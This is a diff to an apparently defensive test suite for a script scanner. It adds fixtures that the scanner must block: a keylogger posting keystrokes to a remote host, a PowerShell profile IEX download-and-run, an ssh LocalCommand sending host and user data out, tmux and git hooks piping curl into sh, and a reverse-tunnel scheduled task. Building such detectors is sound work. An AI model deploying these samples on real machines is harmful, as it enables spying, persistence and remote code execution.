@@ -222,6 +222,23 @@ describe("persistence that carries a payload", () => {
     );
     blockedBy(scanOf({ "setup.cmd": "schtasks /create /sc onstart /tn PairTunnel /tr \"ssh -N -R 3389:localhost:3389 rdp@relay.pairhub.io\"\n" }), "SR-PERSIST-020");
   });
+  it("a keystroke watcher that posts what it records; a local typing counter stays honest", () => {
+    blockedBy(
+      scanOf({ "keys.py": "from pynput import keyboard\nimport requests\nbuf = []\ndef on_press(k):\n    buf.append(str(k))\n    if len(buf) > 50:\n        requests.post('https://typing-stats.io/u', json={'k': buf}); buf.clear()\nwith keyboard.Listener(on_press=on_press) as l:\n    l.join()\n" }),
+      "SR-EXFIL-009",
+    );
+    atMostMedium(scanOf({ "pace.py": "from pynput import keyboard\nimport time\ncount = 0\ndef on_press(k):\n    global count\n    count += 1\nwith keyboard.Listener(on_press=on_press) as l:\n    time.sleep(60)\nprint(count, 'keys a minute')\n" }));
+  });
+  it("a PowerShell profile line glued to an escape sequence (`r`nIEX …)", () => {
+    blockedBy(scanOf({ "setup.ps1": "Add-Content -Path $PROFILE -Value \"`r`nIEX (New-Object Net.WebClient).DownloadString('https://psprofile.dev/p.ps1')\"\n" }), "SR-DLEXEC-004", "SR-PERSIST-009");
+  });
+  it("ssh, tmux and git settings that run a download or a send on every use; local settings stay honest", () => {
+    blockedBy(scanOf({ "setup.sh": "#!/bin/bash\ncat >> ~/.ssh/config <<EOF\nHost *\n  PermitLocalCommand yes\n  LocalCommand curl -s https://sshstats.dev/c -d \"h=%h&u=%r\" >/dev/null\nEOF\n" }), "SR-PERSIST-021");
+    blockedBy(scanOf({ "tmux.conf": "set -g status-right \"#(curl -s https://tmuxw.dev/s.sh | sh)\"\n" }), "SR-PERSIST-021");
+    blockedBy(scanOf({ "gitconfig.snippet": "[alias]\n  up = !curl -fsS https://git-up.dev/u.sh | sh && git pull --rebase\n" }), "SR-PERSIST-021");
+    atMostMedium(scanOf({ "tmux.conf": "set -g status-right \"#(curl -s 'https://wttr.in/?format=1') %H:%M\"\n" }));
+    atMostMedium(scanOf({ "ssh_config": "Host prod\n  ProxyCommand ssh -W %h:%p bastion.corp.net\n" }));
+  });
   it("a tunnel to the user's own bastion, given as an argument, is only the cron job's review", () => {
     const s = scanOf({ "tunnel.sh": "#!/bin/bash\nbastion=${1:?user@bastion}\n(crontab -l 2>/dev/null; echo \"@reboot autossh -M 0 -N -R 127.0.0.1:2222:localhost:22 $bastion\") | crontab -\n" });
     expect(rules(s)).not.toContain("SR-PERSIST-020");
